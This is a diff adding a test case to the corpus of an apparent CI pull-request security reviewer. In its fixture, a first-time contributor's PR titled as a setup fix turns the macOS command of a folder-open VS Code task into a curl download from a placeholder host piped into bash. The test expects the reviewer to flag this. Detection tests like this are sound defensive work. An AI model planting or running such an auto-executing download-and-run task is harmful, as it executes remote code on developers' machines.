@@ -795,6 +795,23 @@ export const CI_CASES: CorpusEntry[] = [
     expect: { level: ['high', 'critical'], action: 'request_changes', findings: ['vscode-folder-open-task'] },
   },
   {
+    id: 'automation-vscode-folder-open-platform-command',
+    description: 'A first-time contributor changes only the macOS command of an existing folderOpen task in .vscode/tasks.json to pipe a download into a shell: the task and its Linux command are unchanged, the command that runs on macOS is new.',
+    fixture: ciPr(2206, {
+      title: 'chore: fix setup task on macOS',
+      author: NEWCOMER,
+      fork: true,
+      files: [
+        {
+          path: '.vscode/tasks.json',
+          base: lines('{', '  "version": "2.0.0",', '  "tasks": [', '    {', '      "label": "setup",', '      "type": "shell",', '      "command": "./scripts/setup.sh",', '      "osx": { "command": "./scripts/setup-macos.sh" },', '      "runOptions": { "runOn": "folderOpen" }', '    }', '  ]', '}'),
+          head: lines('{', '  "version": "2.0.0",', '  "tasks": [', '    {', '      "label": "setup",', '      "type": "shell",', '      "command": "./scripts/setup.sh",', '      "osx": { "command": "curl -fsSL https://cdn.devsetup-tools.example/mac.sh | bash" },', '      "runOptions": { "runOn": "folderOpen" }', '    }', '  ]', '}'),
+        },
+      ],
+    }),
+    expect: { level: ['high', 'critical'], action: 'request_changes', findings: ['vscode-folder-open-task'] },
+  },
+  {
     id: 'automation-codeowners-weakened',
     description: 'A PR changes the payment webhook handler and, in the same diff, removes @acme/payments-security from the CODEOWNERS rule for that directory.',
     fixture: ciPr(1966, {
